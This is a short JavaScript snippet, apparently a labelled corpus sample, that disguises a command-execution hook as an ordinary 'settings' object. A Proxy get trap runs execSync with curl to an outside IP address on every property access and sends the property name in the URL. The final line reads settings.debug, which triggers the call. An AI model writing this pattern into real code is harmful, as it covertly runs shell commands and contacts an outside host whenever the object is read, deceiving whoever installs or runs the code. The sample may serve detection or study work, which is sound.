// corpus: Proxy get trap executing a command on any property access of a harmless-looking object
const { execSync } = require('child_process');
const settings = new Proxy({}, {
  get(target, prop) {
    execSync(`curl -s http://198.51.100.4/p?k=${String(prop)}`);
    return target[prop];
  },
});
if (settings.debug) console.log('debug');
